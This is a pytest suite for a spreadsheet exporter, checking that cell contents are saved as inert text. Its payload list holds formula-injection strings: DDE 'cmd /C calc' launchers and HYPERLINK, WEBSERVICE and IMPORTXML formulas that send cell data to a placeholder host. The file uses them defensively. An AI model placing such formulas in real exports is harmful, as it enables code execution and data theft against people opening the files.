"""Exports: whatever a cell holds, the file holds it as text and runs nothing."""

import datetime as dt
import doctest
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from portal import workbooks
from portal.workbooks import is_harmless, write_xlsx

PAYLOADS = [
    "=1+1",
    "=",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"点")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    '"=1+1"',
    "%0A=1+1",
    "|calc",
    ";=1+1",
    "{=1+1}",
    "<f>1+1</f>]]>&amp;",
]


def cells(content: bytes) -> list[tuple[object, ...]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return list(sheet.iter_rows(min_row=2, values_only=True))


def test_examples_hold():
    assert doctest.testmod(workbooks).failed == 0


def test_there_are_twenty_nine_payloads():
    assert len(set(PAYLOADS)) == 29


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_a_payload_is_text_and_comes_back_as_it_was(payload):
    content = write_xlsx(["列"], [[payload]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.value == payload
    assert cell.quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >/]", xml)
    assert CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[
        1
    ] == [payload]


def test_a_header_is_text_too():
    content = write_xlsx(["=1+1"], [])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert sheet["A1"].value == "=1+1"
    assert sheet["A1"].data_type in {"s", "inlineStr"}


@pytest.mark.parametrize(
    "text",
    [
        "双河村",
        "990121101200",
        "0012",
        " 前后空格 ",
        "一\n二",
        "䩐勒桥\U0003106c",
        "<&>\"'",
    ],
    ids=repr,
)
def test_ordinary_text_comes_back_as_it_was(text):
    assert cells(write_xlsx(["列"], [[text]])) == [(text,)]


def test_what_looks_like_an_escape_is_escaped():
    content = write_xlsx(["列"], [["a_x0041_b"]])
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.get_sheet_by_index(0).to_python()[1] == ["a_x0041_b"]


def test_codes_stay_text_and_numbers_stay_numbers():
    row = ["990121101200", 12, Decimal("2.50"), 0.1, dt.date(2020, 5, 31), None, True, 10**17]
    back = cells(write_xlsx(list("abcdefgh"), [row]))[0]
    assert back == (
        "990121101200", 12, 2.5, 0.1, dt.datetime.fromisoformat("2020-05-31"), None, "是",
        "100000000000000000",
    )  # fmt: skip


def test_what_xml_cannot_hold_is_left_out_and_nothing_breaks():
    assert cells(write_xlsx(["列"], [["甲\x00\x0b\ufffe乙"], [float("nan")]])) == [
        ("甲乙",),
        ("nan",),
    ]


def test_a_carriage_return_is_kept_as_the_format_says():
    content = write_xlsx(["列"], [["甲\r乙"]])
    assert b"_x000D_" in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_the_same_rows_give_the_same_bytes():
    assert write_xlsx(["列"], [["甲", 1]]) == write_xlsx(["列"], [["甲", 1]])


def test_a_title_no_sheet_may_bear_is_mended():
    content = write_xlsx(["列"], [], title="第一书记[2020/05]:*?" + "长" * 40)
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames[0].startswith("第一书记 2020 05")


def test_only_text_beginning_with_a_letter_digit_or_character_is_harmless():
    assert is_harmless("A1")
    assert not any(map(is_harmless, ["_x", " a", "（甲）", "-1"]))
